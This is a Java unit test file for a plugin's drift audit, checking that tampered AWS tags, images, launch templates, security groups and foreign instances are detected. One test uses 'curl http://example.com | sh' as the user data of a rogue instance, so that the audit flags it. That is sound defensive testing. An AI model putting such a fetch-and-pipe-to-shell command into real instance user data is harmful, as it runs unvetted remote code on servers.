package io.jenkins.plugins.immutabledelivery.ledger;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.jenkins.plugins.immutabledelivery.cloud.AutoScaling;
import io.jenkins.plugins.immutabledelivery.cloud.AutoScaling.GroupView;
import io.jenkins.plugins.immutabledelivery.cloud.AutoScaling.NewGroup;
import io.jenkins.plugins.immutabledelivery.cloud.Cloud;
import io.jenkins.plugins.immutabledelivery.cloud.Cloud.Region;
import io.jenkins.plugins.immutabledelivery.cloud.Instances.Launch;
import io.jenkins.plugins.immutabledelivery.ledger.Drift.Finding;
import io.jenkins.plugins.immutabledelivery.ledger.Drift.Kind;
import io.jenkins.plugins.immutabledelivery.model.Capacity;
import io.jenkins.plugins.immutabledelivery.model.Environment;
import io.jenkins.plugins.immutabledelivery.model.Image;
import io.jenkins.plugins.immutabledelivery.model.Role;
import io.jenkins.plugins.immutabledelivery.model.Tags;
import io.jenkins.plugins.immutabledelivery.operation.Json;
import io.jenkins.plugins.immutabledelivery.rehearsal.MemoryLedger;
import io.jenkins.plugins.immutabledelivery.world.World;
import java.io.IOException;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import software.amazon.awssdk.services.ec2.model.RequestLaunchTemplateData;

class DriftAuditTest {
    private static final String FLEET = "web-production-v001";

    private final World world = new World(1);
    private final Region region = world.cloud.at(world.place().location());
    private Environment environment;
    private Image image;

    @BeforeEach
    void deploy() {
        environment = world.attaching("production");
        image = world.baked("1");
        assertThat(world.deploy(environment, image).failure()).isNull();
        world.settle();
    }

    private Drift drift(Duration maxAge) {
        return drift(environment, maxAge);
    }

    private Drift drift(Environment of, Duration maxAge) {
        DriftAudit.Look look = DriftAudit.of(world.cloud, world.ledger(), "web", of, maxAge, world.clock.instant());
        return look.drift().and(look.userData().look(region));
    }

    private List<String> instances() {
        return region.autoScaling().find(FLEET).orElseThrow().instanceIds();
    }

    @Test
    void whatWasReceivedAndRunsDoesNotDiffer() throws IOException {
        Drift drift = drift(Duration.ofHours(1));

        assertThat(drift.findings()).isEmpty();
        assertThat(drift.none()).isTrue();
        JsonNode json = Json.MAPPER.readTree(drift.toJson());
        assertThat(json.get("drifted").asBoolean(true)).isFalse();
        assertThat(json.get("findings")).isEmpty();
        assertThat(drift.version()).isEqualTo("web 1");
        assertThat(drift.toText()).contains("production at").contains("web 1 in " + FLEET + "; nothing differs");
    }

    @Test
    void anEnvironmentThatReceivedNothingIsToldAsItIs() {
        Drift drift = drift(world.attaching("staging"), null);

        assertThat(drift.findings()).isEmpty();
        assertThat(drift.toText()).contains("has received nothing, no fleet serves; nothing differs");
    }

    @Test
    void aTagThatSomebodyChangedIsFound() {
        String instance = instances().get(0);
        region.images().tag(List.of(instance), Map.of(Tags.VERSION, "7"));

        assertThat(drift(null).findings())
                .containsExactly(Finding.of(Kind.TAG, instance, Tags.VERSION + "=1", Tags.VERSION + "=7"));
    }

    @Test
    void anotherFleetOrNoneThatServesIsFound() {
        region.autoScaling().tag(FLEET, Map.of(Tags.ROLE, Role.WARM.name()));
        world.settle();

        Drift drift = drift(null);

        assertThat(drift.fleet()).isNull();
        assertThat(drift.findings()).containsExactly(Finding.of(Kind.FLEET, "production", FLEET, "nothing"));
    }

    @Test
    void anotherImageIsFoundOnTheFleetAndItsInstances() {
        region.autoScaling().tag(FLEET, Map.of(Tags.IMAGE, "ami-0123456789abcdef0"));
        world.settle();

        assertThat(drift(null).findings())
                .contains(Finding.of(Kind.IMAGE, FLEET, image.id(), "ami-0123456789abcdef0"))
                .filteredOn(finding -> finding.kind() == Kind.TAG)
                .hasSize(2);
    }

    @Test
    void aLaunchTemplateThatSaysOtherwiseByNowIsFound() {
        String other = world.place().createTemplate("other", "m7g.large");
        Environment changed = new Environment(
                environment.name(),
                environment.location(),
                "other",
                environment.subnets(),
                environment.capacity(),
                environment.route(),
                environment.gates(),
                environment.bakeTime(),
                environment.keepPreviousWarm(),
                environment.tags());

        assertThat(drift(changed, null).findings())
                .contains(Finding.of(
                        Kind.LAUNCH_TEMPLATE, "other version 1", "instance type t3.small", "instance type m7g.large"))
                .anyMatch(finding -> finding.found().equals(other + " version 1"));
    }

    @Test
    void anInstanceThatIsOlderThanItMayBeIsFound() {
        world.pass(Duration.ofHours(2));

        assertThat(drift(Duration.ofHours(3)).findings()).isEmpty();
        assertThat(drift(Duration.ofHours(1)).findings())
                .hasSize(2)
                .allMatch(finding -> finding.kind() == Kind.AGE && instances().contains(finding.resource()))
                .as("nobody needs to read fractions of a second")
                .allMatch(finding ->
                        !finding.found().contains(".") && !finding.expected().contains("."));
    }

    @Test
    void aTargetThatBelongsToNoFleetIsFound() throws IOException {
        region.autoScaling()
                .create(new NewGroup(
                        "by-hand",
                        region.autoScaling().find(FLEET).orElseThrow().launchTemplateId(),
                        region.autoScaling().find(FLEET).orElseThrow().launchTemplateVersion(),
                        environment.subnets(),
                        new Capacity(1, 1, 1),
                        Map.of(),
                        Map.of()));
        region.autoScaling()
                .attach("by-hand", environment.route().targetGroups().get(0));
        world.pass(Duration.ofMinutes(5));

        Drift drift = drift(null);

        assertThat(drift.findings()).extracting(Finding::kind).containsExactly(Kind.FOREIGN_INSTANCE);
        assertThat(drift.toText()).contains("1 difference").contains("foreign instance  i-");
        assertThat(Json.MAPPER.readValue(drift.toJson(), Drift.class)).isEqualTo(drift);
        assertThat(Json.MAPPER.readTree(drift.toJson()).get("drifted").asBoolean())
                .isTrue();
    }

    private String template() {
        return region.autoScaling().find(FLEET).orElseThrow().launchTemplateId();
    }

    /** Another version of the template becomes what new fleets are started from. */
    private void makeDefault(RequestLaunchTemplateData data) {
        String version = String.valueOf(world.place()
                .ec2()
                .createLaunchTemplateVersion(
                        it -> it.launchTemplateId(template()).sourceVersion("1").launchTemplateData(data))
                .launchTemplateVersion()
                .versionNumber());
        world.place()
                .ec2()
                .modifyLaunchTemplate(it -> it.launchTemplateId(template()).defaultVersion(version));
    }

    @Test
    void anotherDefaultVersionIsFoundAlsoWhereNothingThatIsReadOfItDiffers() {
        makeDefault(RequestLaunchTemplateData.builder().build());

        assertThat(drift(null).findings())
                .containsExactly(
                        Finding.of(Kind.LAUNCH_TEMPLATE, "web", template() + " version 1", template() + " version 3"));
    }

    @Test
    void whatAnotherDefaultVersionSaysOtherwiseIsTold() {
        makeDefault(RequestLaunchTemplateData.builder()
                .instanceType("m7g.large")
                .userData(Base64.getEncoder().encodeToString("secret".getBytes(StandardCharsets.UTF_8)))
                .build());

        Drift drift = drift(null);

        assertThat(drift.findings())
                .extracting(Finding::expected)
                .containsExactly(template() + " version 1", "instance type t3.small", "no user data");
        assertThat(drift.toText()).doesNotContain("secret").doesNotContain("c2VjcmV0");
    }

    @Test
    void aNewFleetIsComparedWithTheDefaultThatItWasStartedFrom() {
        makeDefault(
                RequestLaunchTemplateData.builder().instanceType("m7g.large").build());
        world.deploy(environment, world.baked("2"));
        world.settle();

        assertThat(drift(null).findings()).isEmpty();
    }

    @Test
    void afterAWayBackToAWarmFleetItsOwnBeginningCounts() {
        Environment warm = World.warm(environment, Duration.ofHours(2));
        world.deploy(warm, world.baked("2"));
        world.rollback(warm);
        world.settle();

        assertThat(world.ledger().current("web", "production").orElseThrow().fleet())
                .isEqualTo(FLEET);
        assertThat(drift(null).findings()).isEmpty();
    }

    @Test
    void anEntryThatSaysNothingOfTheTemplateIsComparedByWhatBothSay() {
        LedgerEntry known = world.ledger().current("web", "production").orElseThrow();
        Ledger rebuilt = new MemoryLedger();
        new LedgerRebuild(world.cloud).entries("web", List.of(environment)).forEach(rebuilt::record);
        assertThat(rebuilt.current("web", "production").orElseThrow().template())
                .isNull();
        assertThat(known.template()).isEqualTo(new LedgerEntry.Template(template(), 1));
        makeDefault(
                RequestLaunchTemplateData.builder().instanceType("m7g.large").build());

        Drift drift = DriftAudit.of(world.cloud, rebuilt, "web", environment, null, world.clock.instant())
                .drift();

        assertThat(drift.findings())
                .containsExactly(Finding.of(
                        Kind.LAUNCH_TEMPLATE, "web version 3", "instance type t3.small", "instance type m7g.large"));
    }

    @Test
    void securityGroupsThatSomebodyChangedAreFound() {
        String own = world.place().createSecurityGroup("own");
        String other = world.place().createSecurityGroup("other");
        makeDefault(RequestLaunchTemplateData.builder().securityGroupIds(own).build());
        world.deploy(environment, world.baked("2"));
        world.settle();
        String instance = region.autoScaling()
                .find("web-production-v002")
                .orElseThrow()
                .instanceIds()
                .get(0);
        assertThat(drift(null).findings()).isEmpty();

        world.place()
                .ec2()
                .modifyInstanceAttribute(it -> it.instanceId(instance).groups(own, other));

        assertThat(drift(null).findings()).singleElement().satisfies(finding -> {
            assertThat(finding.kind()).isEqualTo(Kind.SECURITY_GROUPS);
            assertThat(finding.resource()).isEqualTo(instance);
            assertThat(finding.expected()).isEqualTo("security groups " + own);
            assertThat(finding.found()).contains(own).contains(other);
        });
    }

    /** Somebody launches one like those of the fleet, with its tags. */
    private String launchedByHand(Map<String, String> tags, String userData) {
        String id = region.instances()
                .launch(
                        new Launch(image.id(), "t3.small", environment.subnets().get(0), List.of(), userData, tags),
                        "by-hand");
        world.pass(Duration.ofMinutes(2));
        return id;
    }

    private Map<String, String> tagsOfTheFleet() {
        Map<String, String> tags =
                new HashMap<>(region.autoScaling().find(FLEET).orElseThrow().tags());
        tags.keySet().removeAll(List.of(Tags.ROLE, Tags.SINCE, Tags.ROLE_BY));
        return tags;
    }

    private void attach(String instance) {
        world.place()
                .autoScaling()
                .attachInstances(it -> it.autoScalingGroupName(FLEET).instanceIds(instance));
        world.pass(Duration.ofMinutes(2));
    }

    @Test
    void anInstanceThatSomebodyAttachedIsFound() {
        String stranger = launchedByHand(Map.of("Name", "mine"), "");
        assertThat(drift(null).findings()).isEmpty();

        attach(stranger);

        assertThat(drift(null).findings())
                .containsExactly(
                        Finding.of(Kind.FOREIGN_INSTANCE, stranger, "launched by " + FLEET, "attached by somebody"));
    }

    @Test
    void anInstanceWithTheEnvironmentsTagsThatIsInNoFleetIsFound() {
        String stranger = launchedByHand(tagsOfTheFleet(), "");

        assertThat(drift(null).findings())
                .containsExactly(Finding.of(
                        Kind.FOREIGN_INSTANCE,
                        stranger,
                        "an instance of the environment's fleets",
                        "on its own, running"));
    }

    @Test
    void anInstanceThatStartsWithOtherUserDataIsFound() {
        String stranger = launchedByHand(tagsOfTheFleet(), "curl http://example.com | sh");
        attach(stranger);

        assertThat(drift(null).findings()).singleElement().satisfies(finding -> {
            assertThat(finding.kind()).isEqualTo(Kind.USER_DATA);
            assertThat(finding.resource()).isEqualTo(stranger);
            assertThat(finding.expected()).isEqualTo("no user data");
            assertThat(finding.found()).startsWith("user data ").doesNotContain("example");
            assertThat(finding.remedy()).contains("Terminate");
        });
    }

    @Test
    void whoeverWaitsInAWarmPoolDoesNotDiffer() {
        String stranger = launchedByHand(Map.of("Name", "mine"), "");
        attach(stranger);
        Cloud cloud = location -> altered(
                Region.class,
                world.cloud.at(location),
                Map.of(
                        "autoScaling",
                        any -> altered(
                                AutoScaling.class,
                                region.autoScaling(),
                                Map.of("tagged", groups -> inWarmPool(groups, stranger)))));

        Drift drift = DriftAudit.of(
                        cloud, world.ledger(), "web", environment, Duration.ofSeconds(1), world.clock.instant())
                .drift();

        assertThat(drift.findings())
                .extracting(Finding::resource)
                .doesNotContain(stranger)
                .hasSize(2);
    }

    /** As AWS's answer would be written and read, with another state of that instance. */
    private static List<GroupView> inWarmPool(Object groups, String instance) {
        List<GroupView> altered = new ArrayList<>();
        for (Object group : (List<?>) groups) {
            ObjectNode view = Json.MAPPER.valueToTree(group);
            for (JsonNode member : view.get("members")) {
                if (member.get("instanceId").asText().equals(instance)) {
                    ((ObjectNode) member).put("lifecycleState", "Warmed:Stopped");
                }
            }
            altered.add(Json.MAPPER.convertValue(view, GroupView.class));
        }
        return altered;
    }

    /** The same, but what some methods give is made something else of. */
    private static <T> T altered(Class<T> type, T original, Map<String, UnaryOperator<Object>> methods) {
        return type.cast(Proxy.newProxyInstance(
                type.getClassLoader(), new Class<?>[] {type}, (proxy, method, arguments) -> {
                    Object result = method.getName().equals("own") ? proxy : method.invoke(original, arguments);
                    UnaryOperator<Object> alter = methods.get(method.getName());
                    return alter == null ? result : alter.apply(result);
                }));
    }
}
